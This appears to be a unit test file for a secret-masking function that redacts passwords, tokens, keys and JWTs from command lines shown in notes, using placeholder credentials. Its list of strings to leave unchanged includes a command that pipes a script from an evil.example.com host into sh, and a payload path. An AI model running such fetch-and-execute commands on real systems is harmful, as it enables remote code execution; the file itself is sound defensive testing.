import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { code, codeWithHits } from '../../src/note/markdown.ts';
import { maskSecrets } from '../../src/secrets/mask-secrets.ts';
import { anyText } from '../support/any-text.ts';
import { fc } from '../support/seed.ts';

describe('maskSecrets', () => {
  const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc-_123';
  const masked: readonly (readonly [string, string])[] = [
    ['mysqldump --password=hunter2 db', 'mysqldump --password=*** db'],
    ['deploy --password hunter2 --now', 'deploy --password *** --now'],
    ['PGPASSWORD=hunter2 psql', 'PGPASSWORD=*** psql'],
    ['PGPASSWORD="hunter2 psql"', 'PGPASSWORD="*** psql"'],
    ['AWS_SECRET_ACCESS_KEY=abc/def+ghi x', 'AWS_SECRET_ACCESS_KEY=*** x'],
    ['AccountName=a;AccountKey=bG9jYWw=;X=1', 'AccountName=a;AccountKey=***;X=1'],
    ['{"client_secret": "s3cr3t"}', '{"client_secret": "***"}'],
    ["curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ***' x"],
    ['curl -H "Authorization: Basic YTpi"', 'curl -H "Authorization: Basic ***"'],
    ['git clone https://me:hunter2@git.example.com/x', 'git clone https://me:***@git.example.com/x'],
    ['curl -u admin:hunter2 x', 'curl -u admin:*** x'],
    ['sshpass -p hunter2 ssh x', 'sshpass -p *** ssh x'],
    ['mysql -h db -u root -phunter2 x', 'mysql -h db -u root -p*** x'],
    ['https://x.example.com/c?sv=1&sig=abcdefgh%3D&se=2', 'https://x.example.com/c?sv=1&sig=***&se=2'],
    [`run ghp_${'a'.repeat(36)} AKIA${'A'.repeat(16)}`, 'run *** ***'],
    [`x ${jwt} y`, 'x *** y'],
  ];
  for (const [text, expected] of masked) {
    it(text.slice(0, 40), () => assert.equal(maskSecrets(text), expected));
  }

  const kept = [
    'systemctl enable token-refresh.service',
    'systemctl start secret-agent@1.service --now',
    'passwd root',
    'app --token-file /run/token --password-file=/etc/p',
    'PASSWORD=$(curl -s https://evil.example.com/x|sh)',
    'TOKEN=/tmp/payload.sh',
    'token=https://evil.example.com/x.sh',
    'cp -u a:b /tmp/x -p',
    'systemd-ask-password --no-tty',
  ];
  for (const text of kept) {
    it(`leaves ${text}`, () => assert.equal(maskSecrets(text), text));
  }

  it('keeps everything beside the secret, whatever stands there', () => {
    fc.assert(
      fc.property(anyText, anyText, (before, after) => {
        const text = `${before.slice(0, 100)} --password=hunter2 ${after.slice(0, 100)}`;
        assert.doesNotMatch(maskSecrets(text), /hunter2/);
      }),
    );
  });
});

describe('the note', () => {
  it('masks in code', () => assert.equal(code('x --password=hunter2'), '`x --password=***`'));

  it('masks beside a hit, and a hit inside a secret', () => {
    const line = 'systemctl enable x --token=start-hunter2 --now';
    const at = (literal: string) => ({
      start: line.indexOf(literal),
      end: line.indexOf(literal) + literal.length,
    });
    assert.equal(
      codeWithHits(line, [at('enable'), at('start')]),
      '`systemctl ⟦enable⟧ x --token=⟦***⟧*** --now`',
    );
  });

  it('masks a secret that reaches into the window around a hit of an overlong value', () => {
    const line = `${'x'.repeat(900)} --password=${'h'.repeat(60)};enable ${'y'.repeat(900)}`;
    const start = line.indexOf('enable');
    assert.doesNotMatch(codeWithHits(line, [{ start, end: start + 6 }], 200), /hh/);
  });
});
